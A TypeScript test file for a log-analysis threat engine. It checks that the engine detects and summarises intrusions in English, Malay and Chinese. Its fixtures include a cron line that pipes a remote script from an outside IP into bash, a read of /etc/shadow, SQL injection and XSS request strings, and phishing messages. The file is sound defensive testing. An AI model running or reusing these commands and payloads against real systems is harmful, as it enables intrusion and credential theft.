import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import type { EnginePack } from '../../../server/engine/engine.ts';
import { recommendActions } from '../../../server/engine/threat/answer/actions.ts';
import { loadAnswerTexts } from '../../../server/engine/threat/answer/answer-texts.ts';
import { parseAttackTable, techniquesOf } from '../../../server/engine/threat/attack/table.ts';
import type { ThreatEngine } from '../../../server/engine/threat/engine.ts';
import { temporaryFolder } from '../../support/app/folder.ts';
import { guardPack, never, openThreatEngine } from '../../support/threat-engine.ts';

let engine: ThreatEngine;
beforeAll(async () => {
  engine = await openThreatEngine();
});

const failures = Array.from(
  { length: 7 },
  (_, i) => `Mar  4 09:12:0${i} web01 sshd[1]: Failed password for root from 45.9.148.3 port 4444 ssh2`,
);
const intrusion = [
  ...failures,
  'Mar  4 09:13:00 web01 sshd[1]: Accepted password for root from 45.9.148.3 port 4444 ssh2',
  'Mar  4 09:14:00 web01 CRON[9]: (root) CMD (curl -s http://45.9.148.3/i.sh | bash)',
].join('\n');
const analyze = (text: string, language?: 'en' | 'ms' | 'zh') =>
  engine.methods.analyze({ text, ...(language && { language }) }, never);

test('an intrusion: ranked, scored, with actions about what was found', async () => {
  const analysis = await analyze(intrusion);
  expect(analysis.severity).toBe('critical');
  expect(analysis.findings[0]?.ruleId).toBe('anomaly-guessed-login');
  expect(analysis.findings[0]?.lines.at(-1)?.line).toBe(8);
  const levels = analysis.findings.map((finding) =>
    ['informational', 'low', 'medium', 'high', 'critical'].indexOf(finding.level),
  );
  expect(levels).toEqual(levels.toSorted((a, b) => b - a));
  expect(analysis.ttps).toEqual(expect.arrayContaining(['T1110', 'T1078', 'T1105']));
  const actions = analysis.recommendedActions.join('\n');
  for (const subject of ['web01', 'root', '45.9.148.3']) expect(actions).toContain(subject);
  expect(actions).not.toMatch(/\{\w+\}/u);
});

test('the account to disable is the one that got in, not those that were tried', async () => {
  const other = intrusion.replace('Accepted password for root', 'Accepted password for deploy');
  const { recommendedActions, summary } = await analyze(other.split('\n').slice(0, 8).join('\n'));
  expect(recommendedActions.find((action) => action.includes('Disable'))).toMatch(/account deploy,/u);
  expect(recommendedActions.join()).not.toContain('root');
  expect(summary).toContain('Account: deploy');
});

test('the summary cites the login that got in; a program that has ended is not to be stopped', async () => {
  const read =
    'Mar  4 09:14:00 web01 sudo: root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/cat /etc/shadow';
  const { recommendedActions, summary } = await analyze(
    [...intrusion.split('\n').slice(0, 8), read].join('\n'),
  );
  expect(summary).toMatch(/many failures from the same address" \(critical\) at line 8/u);
  expect(recommendedActions.join()).toContain('web01');
  expect(recommendedActions.join()).not.toContain('/bin/cat');
});

test('a mail that asks to verify is phishing, and its words are no programs', async () => {
  const { findings } = await analyze(
    'Dear user,\n\nYour account will be suspended. Verify your password within 24 hours.\n\nVerify now: http://micros0ft-login.top/verify?u=ana\n',
  );
  expect(findings.map(({ ruleId }) => ruleId)).toContain('sig-phish-link');
  expect(findings.map(({ ruleId }) => ruleId)).not.toContain('sig-supply-package');
  expect(findings.flatMap(({ subjects }) => subjects.processes)).toEqual([]);
});

test('an earlier pack, which names no programs that end by themselves, gives its actions', async () => {
  const folder = temporaryFolder();
  const file = readFileSync(join(guardPack, 'actions.yml'), 'utf8');
  writeFileSync(join(folder, 'actions.yml'), file.replace(/^brief:.*\n/mu, ''));
  const starter = { folder: guardPack, manifest: {} as EnginePack['manifest'] };
  const texts = (await loadAnswerTexts({ folder, starter })).actions;
  expect(texts.brief).toBeUndefined();
  const { findings } = await analyze(intrusion);
  expect(recommendActions(findings, [], { language: 'en', texts }).join()).toContain('45.9.148.3');
});

test('findings of one kind are named once in the summary', async () => {
  const log = `${intrusion}\n45.9.148.3 - - [04/Mar/2025:09:15:00 +0000] "GET /?id=1%27%20UNION%20SELECT%20a,b%20FROM%20users--%20- HTTP/1.1" 200 1
45.9.148.3 - - [04/Mar/2025:09:15:01 +0000] "GET /?id=1%27%20or%20%271%27=%271 HTTP/1.1" 200 1`;
  const { summary } = await analyze(log);
  expect(summary.match(/SQL injection/gu)).toHaveLength(1);
  expect(summary).toMatch(/SQL injection \(\d\)/u);
});

test('every technique named exists in the version named', async () => {
  const { ttps, techniques, attackVersion } = await analyze(intrusion);
  expect(attackVersion).toBe('16.1');
  expect(techniques.map(({ id }) => id)).toEqual(ttps);
});

test('nothing found says so', async () => {
  const analysis = await analyze('the quick brown fox');
  expect(analysis).toMatchObject({ severity: 'informational', findings: [], ttps: [], language: 'en' });
  expect(analysis.summary).toContain('No known attack');
  expect(analysis.recommendedActions).toHaveLength(1);
});

describe('languages', () => {
  test.each([
    [`Sila semak log pelayan ini untuk cubaan serangan\n${intrusion}`, 'ms', 'penemuan'],
    [`请帮我看一下这些服务器日志有没有异常\n${intrusion}`, 'zh', '项发现'],
    [intrusion, 'en', 'findings'],
  ] as const)('%#: %s', async (text, language, word) => {
    const analysis = await analyze(text);
    expect(analysis.language).toBe(language);
    expect(analysis.summary).toContain(word);
  });

  test.each([
    [
      'ms',
      ['Log masuk berjaya selepas banyak kegagalan', 'Suntikan SQL', 'Muat turun disalurkan terus ke petala'],
    ],
    ['zh', ['多次失败后登录成功', 'SQL 注入', '下载内容直接交给 Shell 执行']],
  ] as const)('findings are named in %s', async (language, names) => {
    const web =
      '45.9.148.3 - - [04/Mar/2025:09:15:00 +0000] "GET /?id=1%27%20UNION%20SELECT%20a,b%20FROM%20users-- HTTP/1.1" 200 1';
    const { summary } = await analyze(`${intrusion}\n${web}`, language);
    for (const name of names) expect(summary).toContain(name);
  });

  test('a rule of somebody else keeps its title behind its tactic', async () => {
    const own = await openThreatEngine();
    const text =
      'title: Theirs\nid: theirs\nlogsource: {product: linux}\ndetection: {s: [i.sh], condition: s}\nlevel: critical\ntags: [attack.t1105]';
    await own.methods.importRules({ files: [{ name: 'a.yml', text }] });
    const { summary } = await own.methods.analyze({ text: intrusion, language: 'ms' }, never);
    expect(summary).toContain('Arahan dan kawalan (Theirs)');
  });

  test('two findings of one name are named once', async () => {
    const { summary, findings } = await analyze('GET /a?x=%3Csvg/onload=alert(1)%3E HTTP/1.1', 'ms');
    const titles = new Set(findings.map(({ title, translation }) => translation?.title ?? title));
    for (const title of titles) expect(summary.split(title).length).toBeLessThanOrEqual(2);
    expect(summary).toContain([...titles][0]);
  });

  test('the one asked for wins', async () => {
    expect((await analyze(intrusion, 'zh')).summary).toContain('置信度');
  });
});

test('longer than 32,768 bytes is refused by code', async () => {
  await expect(analyze('é'.repeat(16_385))).rejects.toMatchObject({ code: 'input_too_long', param: 'input' });
});

test('rules switch off, import and go again', async () => {
  const own = await openThreatEngine();
  const text = 'Mar  4 09:14:00 web01 CRON[9]: (root) CMD (curl -s http://45.9.148.3/i.sh | bash)';
  const [hit] = (await own.methods.analyze({ text }, never)).findings;
  await own.methods.setRules({ disable: [hit?.ruleId as string] });
  expect(
    (await own.methods.analyze({ text }, never)).findings.map((finding) => finding.ruleId),
  ).not.toContain(hit?.ruleId);
  const rule =
    'title: Mine\nid: mine\nauthor: Aisyah\nlogsource: {product: linux}\ndetection: {s: [i.sh], condition: s}\nlevel: low\ntags: [attack.t1685]';
  const result = await own.methods.importRules({
    files: [
      { name: 'a.yml', text: rule },
      { name: 'b.yml', text: 'title: x' },
    ],
  });
  expect(result).toMatchObject({ imported: 1, errors: [{ file: 'b.yml' }] });
  const { findings } = await own.methods.analyze({ text }, never);
  expect(findings.find((finding) => finding.ruleId === 'mine')).toMatchObject({
    author: 'Aisyah',
    ttps: ['T1562.001'],
  });
  await own.methods.replaceRules({ files: [], disabled: [] });
  expect((await own.methods.rules()).some((info) => info.origin === 'imported')).toBe(false);
});

describe('imported rules', () => {
  const rule = (id: string, title = id) =>
    `title: ${title}\nid: ${id}\nlogsource: {product: linux}\ndetection: {s: [x], condition: s}\nlevel: low`;
  const titles = async (own: ThreatEngine) =>
    (await own.methods.rules()).filter(({ origin }) => origin === 'imported').map(({ title }) => title);

  test('are there from the opening on, off where they were off', async () => {
    const own = await openThreatEngine({}, { files: [{ name: 'a.yml', text: rule('a') }], disabled: ['a'] });
    const [mine] = (await own.methods.rules()).filter(({ id }) => id === 'a');
    expect(mine).toMatchObject({ origin: 'imported', file: 'a.yml', enabled: false });
    await own.methods.replaceRules({ files: [{ name: 'b.yml', text: rule('b') }], disabled: [] });
    expect(await titles(own)).toEqual(['b']);
  });

  test('a file that comes again replaces itself; an id that comes again, its rule', async () => {
    const own = await openThreatEngine();
    await own.methods.importRules({ files: [{ name: 'a.yml', text: rule('a') }] });
    await own.methods.importRules({ files: [{ name: 'a.yml', text: rule('b') }] });
    expect(await titles(own)).toEqual(['b']);
    await own.methods.importRules({ files: [{ name: 'c.yml', text: rule('b', 'newer') }] });
    expect(await titles(own)).toEqual(['newer']);
  });

  test('one with the id of ours stands in for it until it goes', async () => {
    const own = await openThreatEngine();
    const before = await own.methods.rules();
    const files = [{ name: 'a.yml', text: rule(before[0]!.id, 'stands in') }];
    await own.methods.importRules({ files });
    expect(await own.methods.rules()).toHaveLength(before.length);
    expect(await titles(own)).toEqual(['stands in']);
    await own.methods.replaceRules({ files: [], disabled: [] });
    expect(await own.methods.rules()).toEqual(before);
  });
});

test('later ids become the ids of this edition; unknown ones are dropped', () => {
  const table = parseAttackTable('T1562.004\tF\tdefense-evasion\nT1219\tR\tcommand-and-control');
  expect(
    techniquesOf(['attack.t1686.003', 'attack.t1219.002', 'attack.t9999', 'attack.stealth'], table),
  ).toEqual(['T1562.004', 'T1219']);
});

test('a message that has a card put in behind its link gets its link blocked, and no word is an account', async () => {
  const refund =
    'Subjek: Bayaran balik cukai\n\nSila klik pautan di bawah dan masukkan nombor kad bank serta PIN anda sebelum pukul 5: http://hasil-bayar.click/tuntut';
  const { recommendedActions } = await analyze(refund, 'en');
  expect(recommendedActions.join()).toContain('Block hxxp://hasil-bayar[.]click/tuntut, ');
  const { indicators } = await analyze('Verify your account within 24 hours or it will be suspended.');
  expect(indicators.map(({ type }) => type)).not.toContain('user');
});

test('findings of one family keep titles of their own in Malay and Chinese', async () => {
  const union =
    'GET /item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20- HTTP/1.1\nHost: a.example';
  for (const [language, title] of [
    ['zh', 'SQL 注入：UNION SELECT'],
    ['ms', 'Suntikan SQL: UNION SELECT'],
  ] as const) {
    const { findings, summary } = await analyze(union, language);
    expect(findings.map(({ translation }) => translation?.title)).toContain(title);
    expect(summary).toContain(title);
  }
});

test('a probe for SQL injection leaves no web shell to remove', async () => {
  const { findings, recommendedActions } = await analyze(
    `2026-11-26T01:12:03+08:00 203.0.113.77 - - "GET /login.php?user=admin%27%20OR%20%271%27=%271 HTTP/1.1" 200 5321 "-" "sqlmap/1.7.2"`,
  );
  expect(findings.map(({ ruleId }) => ruleId)).toContain('sig-web-exploit');
  expect(recommendedActions.join()).not.toContain('web shell');
});

test('gigabytes to a host outside are told where a firewall gives one sum', async () => {
  const flows = (bytes: number) =>
    `time,action,src,dst,dport,bytes\n2026-11-26 09:00:01,allow,10.1.4.20,10.1.9.5,443,5120\n2026-11-26 09:00:03,allow,10.1.4.88,185.199.108.99,443,${bytes}`;
  const told = async (bytes: number) => (await analyze(flows(bytes))).findings.map(({ ruleId }) => ruleId);
  expect(await told(8_589_934_592)).toContain('anomaly-large-exchange');
  expect(await told(85_899_345)).not.toContain('anomaly-large-exchange');
});
